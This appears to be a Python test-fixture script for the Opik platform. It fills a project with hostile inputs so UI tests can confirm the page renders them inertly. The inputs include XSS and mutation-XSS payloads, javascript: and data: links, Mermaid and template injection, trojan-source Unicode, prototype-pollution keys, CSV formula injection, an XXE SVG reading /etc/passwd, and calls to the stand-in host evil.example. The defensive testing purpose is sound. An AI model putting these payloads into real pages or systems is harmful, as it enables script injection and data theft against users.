"""A project whose every text tries to break the page that shows it. Prints the ids that tests need.

Nothing of it may run, load or ask anything: scripts would call `alert`, set `window.__pwned` or fetch from
`https://evil.example`, which tests watch.
"""

import datetime
from typing import Any

import opik
from opik import Attachment
from opik.evaluation.metrics import base_metric, score_result

from common import ago, client, flush, id_at, later, pdf, png, project_id, prompt_id, report, rest

PROJECT = "Hostile payloads"
NAMED_BY_HTML = "<img src=x onerror=alert('project')><b>Project</b>"

SCRIPTS = {
    "script": "<script>window.__pwned='script';alert(1)</script>",
    "img onerror": "<img src=x onerror=\"window.__pwned='img';alert(1)\">",
    "svg onload": "<svg onload=\"window.__pwned='svg'\"><circle r=9></circle></svg>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
    "details ontoggle": "<details open ontoggle=\"window.__pwned='details'\">x</details>",
    "style import": "<style>@import 'https://evil.example/steal.css';body{display:none}</style>",
    "form": "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)></form>",
    "base": "<base href=https://evil.example/>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "closing tags": "</textarea></script></style></title></div></div></div><h1>outside</h1>",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "dom clobbering": "<form id=app><input name=attributes><input id=root></form><a id=location href=x></a>",
}

# What sanitisers have let through when the browser parsed their output a second time.
MUTATIONS = {
    "math style": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "form nesting": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "template": "<template><style></template><img src=x onerror=alert(1)></style>",
    "xmp": '<svg><xmp><img alt="</xmp><img src=x onerror=alert(1)>">',
}

MARKDOWN = (
    """# Heading <script>window.__pwned='markdown'</script>

[javascript](javascript:window.__pwned='link') [spaced](  javascript:alert(1)) [mixed](JaVaScRiPt:alert(1))
[entities](&#106;avascript:alert(1)) [tab](java\tscript:alert(1))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[vbscript](vbscript:msgbox(1)) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)
[protocol relative](//evil.example/a) [honest](https://example.com/?a=1&b=<b>)

![tracker](https://evil.example/pixel.png?cookie=1) ![broken](javascript:alert(1))
![with quotes](x"onerror="window.__pwned='image')
![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)

<a href="javascript:window.__pwned='a'" onclick="alert(1)">raw link</a>
<img src="https://evil.example/raw.png" onerror="window.__pwned='raw'">
<div style="position:fixed;inset:0;background:red;z-index:99999">covers the page</div>

```html
<script>alert('in a block of code')</script>
```

```"><img src=x onerror=alert(1)>
the language of this block is an attack
```

| a | b |
| --- | --- |
| <img src=x onerror=alert(1)> | `<script>` |

<details><summary>closed</summary>

[inside](javascript:alert(1))
</details>

$$\\href{javascript:alert(1)}{math}$$

[ref]: javascript:alert(1)
[by reference][ref] and a bare javascript:alert(1) and https://evil.example/bare
"""
    + ">" * 200
    + " quoted deeply\n\n"
    + "- " * 200
    + "listed deeply\n\n"
    + "**" * 500
    + "\n"
    + "[" * 500
    + "\n"
    + "`" * 501
)

GRAPH = """flowchart TD
    a["<img src=x onerror=window.__pwned='mermaid'>"] --> b["<script>alert(1)</script>"]
    click a "javascript:window.__pwned='click'" "tip"
    click b href "https://evil.example/"
    %%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import 'https://evil.example/x.css'"}}%%"""

UNICODE = {
    "arabic": "مرحبا بالعالم، كيف حالك اليوم؟",
    "hebrew mixed with latin": "שלום world, the price is 42 ש״ח (today)",
    "bidi override": "invoice_\u202egnp.exe and \u2066isolated\u2069 and \u202bembedded\u202c",
    "never closed override": "\u202eeverything after this is backwards",
    "trojan source": "access = 'user\u202e \u2066// check if admin\u2069 \u2066'",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇪🇺 🧑🏿‍🚀 ❤️‍🔥 🫠",
    "combining": "Z̸̧̛͖͎̺̫̜̝͎͕̅̑̽a̶̡̨̛̰̤͍͉͐̐̃̚l̸̡̧̢̰̝̦̥̓͗̈́̚͝g̵̡̛̲̱̞̤̮̍̎̅̐͝o̸̢̧̤͕̼͓̽̑̃̕̕͝",
    "zero width": "pass\u200bword\u200d\ufeff\u00ad\u2060",
    "line separators": "one\u2028two\u2029three\x0bfour\x0cfive\x85six",
    "control": "bell\x07 escape\x1b[31mred\x1b[0m backspace\x08 delete\x7f",
    "lone surrogate": "\\ud800 as text, U+FFFD \ufffd, U+FFFF \uffff, U+10FFFF \U0010ffff",
    "homoglyphs": "аdmin (Cyrillic а), ⅼogin, 𝐛𝐨𝐥𝐝, ｆｕｌｌｗｉｄｔｈ",
    "cjk": "日本語のとても長い文章です。" * 20,
    "thai": "ภาษาไทยไม่มีช่องว่างระหว่างคำ" * 10,
    "unbreakable": "x" * 3_000,
    "many spaces": "a" + " " * 500 + "b" + "\u00a0" * 500 + "c",
    "many lines": "\n" * 400 + "end",
}

ODD_VALUES: dict[str, Any] = {
    "null": None,
    "empty text": "",
    "blank": "   ",
    "zero": 0,
    "minus zero": -0.0,
    "false": False,
    "empty list": [],
    "empty object": {},
    "list of nulls": [None, None],
    "the word null": "null",
    "the word undefined": "undefined",
    "NaN": "NaN",
    "number in a text": "0123",
    "long number": 123456789012345678901234567890,
    "beyond doubles": 9007199254740993,
    "tiny": 5e-324,
    "huge": 1.7976931348623157e308,
    "json in a text": '{"a": [1, 2, {"b": "<script>"}]}',
    "broken json in a text": '{"a": [1, 2',
    "": "an empty key",
    " ": "a blank key",
    "__proto__": {"polluted": True},
    "constructor": {"prototype": {"polluted": True}},
    "toString": "not a function",
    "hasOwnProperty": 1,
    "length": -1,
    "then": "not a promise",
    "key.with.dots[0]": 1,
    "<b>key</b>": "<i>value</i>",
    "\u202ekey": 1,
    "k" * 2_000: "a long key",
    "$ref": "#/definitions/self",
    "javascript:alert(1)": "javascript:alert(1)",
    "date": "0000-00-00T00:00:00Z",
    "base64": "data:image/png;base64,not base64 at all",
    "html page": "data:text/html,<script>alert(1)</script>",
}

SVG = b"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="window.parent.__pwned='svg file'">
<script>window.opener.__pwned='svg script';alert(1)</script><image href="https://evil.example/x.png"/>
<foreignObject width="80" height="80">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>
<circle cx="40" cy="40" r="30" fill="teal"/></svg>"""
PAGE = b"""<!doctype html><title>x</title>
<script>window.opener&&(window.opener.__pwned='page');alert(document.domain)</script>"""

LONG_NAME = "A name that goes on and on, " * 60
LONG_TAG = "tag-" + "x" * 900
MANY_TAGS = [f"tag number {n}" for n in range(120)]


class HtmlMetric(base_metric.BaseMetric):
    def __init__(self) -> None:
        super().__init__(name="<u>metric</u>", track=False)

    def score(self, **ignored: Any) -> score_result.ScoreResult:
        return score_result.ScoreResult("<img src=x onerror=alert('score')>", 0.5, reason=MARKDOWN)


class Planter:
    def __init__(self, sdk: opik.Opik):
        self.sdk = sdk
        self.count = 0
        self.ids: dict[str, Any] = {}

    def trace(self, key: str, spans: list[dict[str, Any]] | None = None, **fields: Any) -> str:
        """A trace under a key of the report; each is a minute older than the one before."""
        self.count += 1
        start = ago(minutes=self.count)
        trace_id = id_at(start)
        fields = {"name": key, "project_name": PROJECT} | fields
        self.sdk.trace(id=trace_id, start_time=start, end_time=later(start, 1_234), **fields)
        for index, span in enumerate(spans or []):
            begin = later(start, 10 * (index + 1))
            span_id = id_at(begin)
            self.sdk.span(
                id=span_id,
                trace_id=trace_id,
                start_time=begin,
                end_time=later(begin, 500),
                project_name=PROJECT,
                **span,
            )
            self.ids[f"{key.replace(' ', '_')}_span_id"] = span_id
        self.ids[f"{key.replace(' ', '_')}_trace_id"] = trace_id
        return trace_id

    def plant_texts(self) -> None:
        for key, attacks in (
            ("scripts", SCRIPTS),
            ("mutations", MUTATIONS),
            ("unicode", UNICODE),
            ("odd values", ODD_VALUES),
        ):
            span = {"name": key, "type": "tool", "input": attacks, "output": attacks, "metadata": attacks}
            self.trace(key, [span], input=attacks, output=attacks, metadata=attacks)
        chat = [
            {"role": role, "content": text}
            for role, text in zip(
                ["system", "user", "assistant", "tool", "<b>role</b>"],
                [*SCRIPTS.values()][:4] + [MARKDOWN],
                strict=True,
            )
        ]
        reply = {"choices": [{"message": {"role": "assistant", "content": MARKDOWN}}]}
        call = {
            "name": "chat",
            "type": "llm",
            "model": "<b>model</b>",
            "provider": "<i>provider</i>",
            "input": {"messages": chat},
            "output": reply,
        }
        self.trace(
            "markdown",
            [call],
            input={"messages": chat},
            output={"output": MARKDOWN},
            thread_id="<script>alert('thread')</script>",
            metadata={"_opik_graph_definition": {"format": "mermaid", "data": GRAPH}},
        )
        self.trace(
            "images",
            input={
                "messages": [
                    {
                        "role": "user",
                        "content": [
                            {"type": "image_url", "image_url": {"url": url}}
                            for url in (
                                "https://evil.example/pixel.png",
                                "javascript:alert(1)",
                                "data:image/svg+xml;utf8," + SVG.decode(),
                                "data:text/html,<script>alert(1)</script>",
                                "//evil.example/x.png",
                                "http://127.0.0.1:1/internal.png",
                            )
                        ],
                    }
                ]
            },
            output={
                "audio": "https://evil.example/a.mp3",
                "video": "https://evil.example/v.mp4",
                "image": 'x" onerror="alert(1)',
            },
        )
        # The SDK takes objects only; other clients send what they like.
        for key, value in {
            "text": "<script>alert('not an object')</script>",
            "list": [1, [2, ["<b>"]]],
            "number": 0,
        }.items():
            start = ago(minutes=80)
            trace_id = id_at(start)
            rest(
                "POST",
                "/traces/batch",
                {
                    "traces": [
                        {
                            "id": trace_id,
                            "name": f"{key} input",
                            "start_time": start.isoformat(),
                            "project_name": PROJECT,
                            "input": value,
                            "output": value,
                            "metadata": value,
                        }
                    ]
                },
            )
            self.ids[f"{key}_input_trace_id"] = trace_id

    def plant_sizes(self) -> None:
        long = "".join(f"line {n}: <b>lorem</b> ipsum dolor sit amet\n" for n in range(115_000))[: 5 * 1024 * 1024]
        span = {
            "name": "five megabytes",
            "type": "llm",
            "input": {"text": "see the trace"},
            "output": {"text": long[: 1024 * 1024]},
        }
        self.trace("five megabytes", [span], input={"text": long}, output={"text": "x" * (5 * 1024 * 1024)})
        self.trace("one long line", input={"text": "word " * 200_000}, output={"text": "\u0645" * 200_000})
        deep: Any = "the bottom"
        for level in range(400):
            deep = {f"level {399 - level}": deep} if level % 2 else [deep]
        self.trace("deep nesting", input={"deep": deep}, output={"text": "[" * 5_000 + "]" * 5_000})
        wide = {f"key {n:05}": {"value": n, "text": "<b>"} for n in range(10_000)}
        self.trace("ten thousand keys", input=wide, output={"list": list(range(20_000))})
        talk = [
            {"role": "user" if n % 2 == 0 else "assistant", "content": f"Message {n} " + "text " * 40}
            for n in range(1_000)
        ]
        self.trace(
            "thousand messages",
            [{"name": "chat", "type": "llm", "input": {"messages": talk}}],
            input={"messages": talk},
        )

    def plant_names(self) -> None:
        html = "<img src=x onerror=\"window.__pwned='name';alert(1)\">"
        trace_id = self.trace(
            "html names",
            [
                {"name": html, "tags": [html]},
                {"name": "javascript:alert(1)"},
                {"name": ""},
                {"name": "\u202esdrawkcab"},
            ],
            name=html,
            tags=[html, "<script>alert(1)</script>", "a,b;c\"d'e", "=cmd|' /C calc'!A0"],
            environment="<b>env</b>",
            thread_id="../../../etc?x=1&y=2#z/%2e%2e/<b>",
        )
        self.sdk.log_traces_feedback_scores(
            [
                {"id": trace_id, "name": html, "value": 1.0, "reason": MARKDOWN, "project_name": PROJECT},
                {
                    "id": trace_id,
                    "name": 'score, with "quotes" & dots.in.it',
                    "value": -999_999_999.5,
                    "project_name": PROJECT,
                },
                {
                    "id": trace_id,
                    "name": "n" * 150,
                    "value": 0.123456789,
                    "category_name": html,
                    "project_name": PROJECT,
                },
            ]
        )
        self.trace("long names", [{"name": LONG_NAME, "tags": MANY_TAGS}], name=LONG_NAME, tags=[LONG_TAG, *MANY_TAGS])
        self.trace(
            "formulas",
            name='=HYPERLINK("https://evil.example","x")',
            input={"csv": "=1+1", "plus": "+1", "at": "@SUM(A1)"},
        )
        error = {"exception_type": html, "message": MARKDOWN, "traceback": "<script>alert(1)</script>\n" * 500}
        self.trace("html error", [{"name": "fails", "error_info": error}], error_info=error)
        flush(self.sdk)
        rest("POST", f"/traces/{trace_id}/comments", {"text": MARKDOWN})
        rest("POST", f"/traces/{trace_id}/comments", {"text": "".join(SCRIPTS.values())})

    def plant_files(self) -> None:
        self.trace(
            "files",
            attachments=[
                Attachment(data=SVG, file_name="drawing.svg", content_type="image/svg+xml"),
                Attachment(data=PAGE, file_name="page.html", content_type="text/html"),
                Attachment(data=PAGE, file_name="page-as-picture.png", content_type="image/png"),
                Attachment(data=SVG, file_name="svg-as-text.txt", content_type="text/plain"),
                Attachment(data=PAGE, file_name="<img src=x onerror=alert(1)>.html", content_type="text/html"),
                Attachment(data=b"alert(1)", file_name="code.js", content_type="text/javascript"),
                Attachment(
                    data=pdf(["(/JS alert)", "A plain page"]), file_name="\u202efdp.exe", content_type="application/pdf"
                ),
                Attachment(data=b"\0", file_name="zero.bin", content_type="application/octet-stream"),
                Attachment(data=png(64, 64), file_name="n" * 200 + ".png", content_type="image/png"),
                Attachment(data=MARKDOWN.encode(), file_name="notes.md", content_type="text/markdown"),
                Attachment(
                    data=b"a,b\n=1+1,<script>alert(1)</script>\n", file_name="table.csv", content_type="text/csv"
                ),
            ],
        )

    def plant_times(self) -> None:
        """Traces without an end, ending before they began, and of no time at all."""
        start = ago(minutes=90)
        for key, fields in {
            "no end": {},
            "ends before it began": {"end_time": start - datetime.timedelta(hours=2)},
            "took no time": {"end_time": start},
            "took a year": {"end_time": start + datetime.timedelta(days=366)},
        }.items():
            trace_id = id_at(start)
            self.sdk.trace(id=trace_id, name=key, start_time=start, project_name=PROJECT, **fields)
            self.sdk.span(trace_id=trace_id, name=key, start_time=start, project_name=PROJECT, **fields)
            self.ids[f"{key.replace(' ', '_')}_trace_id"] = trace_id

    def plant_evaluation(self) -> None:
        html = "<img src=x onerror=alert('dataset')>"
        dataset = self.sdk.create_dataset(f"{html} dataset", description=MARKDOWN[:240])
        dataset.insert(
            [
                {
                    "<b>column</b>": "<script>alert(1)</script>",
                    "markdown": MARKDOWN,
                    "n": n,
                    "odd": list(SCRIPTS.values()),
                }
                for n in range(5)
            ]
        )
        prompt = self.sdk.create_prompt(
            f"{html} prompt",
            "{{a}} <script>alert(1)</script> {{<b>}} {{{raw}}}",
            description=MARKDOWN[:240],
            tags=[html],
            metadata={"x": html},
            change_description=html,
        )
        experiments = [
            opik.evaluate(
                dataset=dataset,
                task=lambda item: {"output": MARKDOWN, "<b>": item["markdown"]},
                scoring_metrics=[HtmlMetric()],
                experiment_name=f"{html} experiment {n}",
                project_name=PROJECT,
                experiment_config={html: html},
                experiment_tags=[html],
                prompts=[prompt],
                verbose=0,
                task_threads=1,
            ).experiment_id
            for n in range(2)
        ]
        rest(
            "POST",
            "/feedback-definitions",
            {
                "name": f"{html} definition",
                "description": MARKDOWN[:240],
                "type": "categorical",
                "details": {"categories": {html: 1.0, "</script>": 0.0}},
            },
        )
        queue = self.sdk.create_traces_annotation_queue(
            f"{html} queue",
            project_name=PROJECT,
            instructions=MARKDOWN,
            description=html,
            feedback_definition_names=[f"{html} definition"],
        )
        rest(
            "POST",
            f"/annotation-queues/{queue.id}/items/add",
            {"ids": [self.ids["html_names_trace_id"], self.ids["markdown_trace_id"]]},
        )
        dashboard = self.sdk.create_dashboard(f"{html} dashboard", project_name=PROJECT)
        dashboard.add_widget({"type": "text_markdown", "title": html, "config": {"content": MARKDOWN}})
        unknown = {"id": "w", "type": html, "title": "unknown", "config": {"__proto__": 1}}
        section = {
            "id": "s",
            "title": html,
            "widgets": [unknown],
            "layout": [{"i": "w", "x": -1, "y": 0, "w": 99, "h": 0}],
        }
        odd_dashboards = [
            rest("POST", "/dashboards", {"name": name, "config": config})["id"]
            for name, config in {
                "Broken configuration": {"version": 99, "sections": "none"},
                "Unknown widget": {"version": 4, "sections": [section]},
            }.items()
        ]
        self.ids |= {
            "dataset_id": dataset.id,
            "prompt_id": prompt_id(prompt.name),
            "experiment_ids": experiments,
            "queue_id": queue.id,
            "dashboard_id": dashboard.id,
            "odd_dashboard_ids": odd_dashboards,
        }


def main() -> None:
    sdk = client(PROJECT)
    planter = Planter(sdk)
    planter.plant_texts()
    planter.plant_names()
    planter.plant_files()
    planter.plant_times()
    planter.plant_sizes()
    sdk.trace(name="in a project named by HTML", project_name=NAMED_BY_HTML).end()
    flush(sdk)
    planter.plant_evaluation()
    flush(sdk)
    report(planter.ids | {"project_id": project_id(PROJECT), "html_project_id": project_id(NAMED_BY_HTML)})


if __name__ == "__main__":
    main()
